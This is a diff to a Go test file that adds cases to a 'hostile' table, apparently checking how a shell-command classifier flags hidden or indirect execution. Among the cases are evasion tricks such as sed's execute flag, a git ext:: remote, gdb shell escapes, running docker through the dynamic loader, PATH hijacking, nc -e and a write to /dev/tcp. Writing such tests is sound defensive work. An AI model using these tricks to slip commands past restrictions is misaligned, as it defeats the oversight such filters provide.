@@ -165,6 +165,39 @@ var hostile = []struct{ line, want string }{
 	{`kubectl frob x`, "kubectl!"},
 	{`echo 'unterminated`, "?!"},
 	{`cat > /dev/tcp/1.2.3.4/80`, "<> cat"},
+	{"doc\\\nker ps", "docker"},
+	{`builtin command docker ps`, "builtin command docker"},
+	{`coproc docker ps`, "coproc docker"},
+	{`xargs -I% sh -c '%'`, "xargs sh ?!"},
+	{`xargs -i docker rm {}`, "xargs docker~"},
+	{`xargs --replace=@ docker @`, "xargs docker!~"},
+	{`parallel {} ::: docker`, "parallel ?!"},
+	{`parallel docker rm`, "parallel docker~"},
+	{`taskset -c 0 docker ps`, "taskset docker"},
+	{`nsenter -t 1 -m -u docker ps`, "nsenter docker"},
+	{`su - bob -c 'docker ps'`, "su docker"},
+	{`su bob`, "su ?!"},
+	{`runuser -u bob -- docker ps`, "runuser docker"},
+	{`for PATH in .; do ls; done`, "?! ls"},
+	{`read PATH < x; ls`, "read! ls"},
+	{`: ${PATH:=.}; ls`, ":~ ?! ls"},
+	{`BASH_ALIASES[ls]=docker; ls`, "?! ls"},
+	{`sort --compress-p=docker x`, "sort ?! docker"},
+	{`nc -le docker 1`, "nc+ ?! docker"},
+	{`man -Pdocker ls`, "man ?!"},
+	{`git rebase --exe 'docker ps'`, "git ?! docker"},
+	{`git archive --remote=ext::sh x`, "git!"},
+	{`git --git-dir=x log`, "?! git"},
+	{`sed --expression='1e docker ps' x`, "sed!"},
+	{`sed -ne '1edocker' x`, "sed!"},
+	{`sed 's/a/b/e;s/c/d/' x`, "sed!"},
+	{`sed '/x/s/a/b/e' x`, "sed!"},
+	{`sed -i 's/release/freeze/g' x`, "sed"},
+	{`sed -n '1,5p' x`, "sed"},
+	{`/lib64/ld-linux-x86-64.so.2 /usr/bin/docker ps`, "ld-linux-x86-64.so.2! docker"},
+	{`/proc/self/exe x`, "?!"},
+	{`ip netns exec x docker ps`, "ip!"},
+	{`gdb -ex 'shell docker ps'`, "gdb!"},
 }
 
 func TestHostileLines(t *testing.T) {
@@ -220,7 +253,7 @@ func TestTables(t *testing.T) {
 				if key == "lone" {
 					key = val
 				}
-				if !known[key] && !slices.Contains([]string{"skip1", "assign", "text", "more", "shell", "query"}, key) {
+				if !known[key] && !slices.Contains([]string{"skip1", "assign", "text", "more", "shell", "query", "optional"}, key) {
 					t.Errorf("wrapper %s: %q is no property", f[0], p)
 				}
 			}
